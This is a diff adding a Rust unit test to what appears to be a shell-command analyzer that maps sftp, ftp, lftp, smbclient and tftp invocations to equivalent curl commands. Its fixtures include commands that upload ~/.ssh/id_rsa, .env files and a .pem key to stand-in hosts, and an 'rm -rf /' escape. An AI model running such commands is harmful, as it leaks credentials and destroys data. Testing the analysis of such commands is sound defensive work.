@@ -221,6 +221,61 @@ fn launcher_wrappers() {
 }
 
 #[test]
+fn transfer_clients_move_files_as_the_curl_lines_they_amount_to() {
+    let argv = |c: &Command| -> String {
+        std::iter::once(c.program.clone())
+            .chain(c.args.iter().map(|w| w.text.clone()))
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
+    for (line, want) in [
+        (
+            "sftp -P 2222 user@files.example <<< 'put ~/.ssh/id_rsa'",
+            "curl -T /home/dev/.ssh/id_rsa sftp://files.example/",
+        ),
+        (
+            "ftp -n files.example <<< 'put .env'",
+            "curl -T .env ftp://files.example/",
+        ),
+        (
+            "lftp -c 'open ftp://u@files.example/pub; put a.txt'",
+            "curl -T a.txt ftp://files.example/",
+        ),
+        (
+            "lftp -e 'get logs/app.log x.log; bye' files.example",
+            "curl -o x.log ftp://files.example/logs/app.log",
+        ),
+        (
+            "smbclient //nas.example/share -U guest -c 'put .env'",
+            "curl -T .env smb://nas.example/",
+        ),
+        (
+            "tftp files.example -c put k.pem",
+            "curl -T k.pem ftp://files.example/",
+        ),
+        (
+            "echo 'put dist/app.tgz' | sftp -b - deploy@files.example:/srv",
+            "curl -T dist/app.tgz sftp://files.example/",
+        ),
+    ] {
+        let an = a(line);
+        let c = an.commands.last().unwrap();
+        let got = argv(c)
+            .replace("$HOME", "/home/dev")
+            .replace('~', "/home/dev");
+        assert_eq!(got, want, "{line}");
+        assert!(c.wrappers.last().unwrap().ends_with(" commands"), "{line}");
+    }
+    // A local escape is the command it runs; `lcd` changes the local directory.
+    assert_rm_rf_root("sftp h.example <<< '!rm -rf /'");
+    let an = a("sftp h.example <<'EOF'\nlcd build\nput app.tgz\nEOF");
+    assert_eq!(programs(&an), ["sftp", "cd", "curl"]);
+    // An interactive session or a batch file reads nothing the line shows.
+    assert_eq!(programs(&a("sftp user@h.example")), ["sftp"]);
+    assert_eq!(programs(&a("sftp -b batch.txt user@h.example")), ["sftp"]);
+}
+
+#[test]
 fn process_managers_run_what_they_keep_alive() {
     let argv = |c: &Command| -> Vec<String> {
         std::iter::once(c.program.clone())
